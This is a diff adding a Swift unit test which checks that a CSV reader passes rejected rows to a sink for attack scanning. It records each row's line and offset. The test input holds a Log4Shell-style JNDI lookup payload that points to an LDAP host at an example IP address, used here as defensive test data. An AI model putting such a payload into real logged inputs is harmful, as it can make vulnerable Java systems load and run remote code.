@@ -105,4 +105,14 @@ import Testing
       #expect(name?.hasPrefix("aws.") != true, "\(text)")
     }
   }
+
+  /// A row that is none of the table's is searched as a line of a log is.
+  @Test func rejectedRowsMayHoldAnAttack() throws {
+    let sink = CollectingSink()
+    let rows = CSVRows(MemoryStream(Array("a,b\n${jndi:ldap://198.51.100.7/a}\nplain\n".utf8)), coverage: sink)
+    while let row = try rows.next() { if row.cells.count != 2 { rows.reject("a row of \(row.cells.count) cells") } }
+    rows.finish()
+    #expect(sink.events.map { $0.text("text") } == ["${jndi:ldap://198.51.100.7/a}"])
+    #expect(sink.events.first?.locator.line == 2 && sink.events.first?.locator.offset == 4)
+  }
 }
